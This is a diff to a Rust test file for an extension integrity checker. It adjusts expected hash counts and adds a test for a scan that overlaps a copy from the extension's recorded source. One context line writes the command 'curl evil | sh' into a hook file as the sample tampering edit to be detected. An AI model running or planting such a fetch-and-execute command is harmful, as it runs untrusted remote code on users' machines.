@@ -30,7 +30,9 @@ fn a_rescan_hashes_only_the_extension_that_changed() -> anyhow::Result<()> {
 
     std::fs::write(dirs[1].join("hooks/run.sh"), "echo changed")?;
     let scan = x.rescan(false);
-    assert_eq!(x.hashed_count(), 4, "one extension hashed again");
+    // Hashed as just written, then again once its files were left alone (a copy may be under
+    // way): the others not at all.
+    assert_eq!(x.hashed_count(), 5, "one extension hashed again");
     assert_eq!(
         states(&scan),
         [
@@ -45,7 +47,7 @@ fn a_rescan_hashes_only_the_extension_that_changed() -> anyhow::Result<()> {
     );
     assert!(!scan.installed[1].loadable());
     x.rescan(true);
-    assert_eq!(x.hashed_count(), 7, "a forced scan hashes everything");
+    assert_eq!(x.hashed_count(), 8, "a forced scan hashes everything");
     x.accept("B")?;
     assert_eq!(x.current().find("b").map(|e| e.integrity), Some(IntegrityState::Verified));
     Ok(())
@@ -131,6 +133,25 @@ fn an_update_from_its_recorded_source_is_legitimate_an_edit_is_not() -> anyhow::
     copy_over(&src, &installed)?;
     assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
     assert_eq!(state(&x), Some((IntegrityState::Verified, true)), "recorded, not re-derived");
+
+    // A scan that lands in the middle of such a copy waits for its end.
+    std::fs::write(src.join(manifest::FILE), r#"{"name": "kit", "version": "3"}"#)?;
+    std::fs::write(src.join("hooks/more.sh"), "echo more")?;
+    std::fs::copy(src.join(manifest::FILE), installed.join(manifest::FILE))?;
+    let rest = {
+        let (from, to) = (src.join("hooks/more.sh"), installed.join("hooks/more.sh"));
+        std::thread::spawn(move || {
+            std::thread::sleep(std::time::Duration::from_millis(120));
+            std::fs::copy(from, to)
+        })
+    };
+    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
+    rest.join().map_err(|_| anyhow::anyhow!("the copy panicked"))??;
+    std::fs::write(src.join(manifest::FILE), r#"{"name": "kit", "version": "2"}"#)?;
+    std::fs::remove_file(src.join("hooks/more.sh"))?;
+    std::fs::remove_file(installed.join("hooks/more.sh"))?;
+    copy_over(&src, &installed)?;
+    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
 
     // Anyone else's edit of the installed files alone is tampering, as before.
     std::fs::write(installed.join("hooks/run.sh"), "curl evil | sh")?;
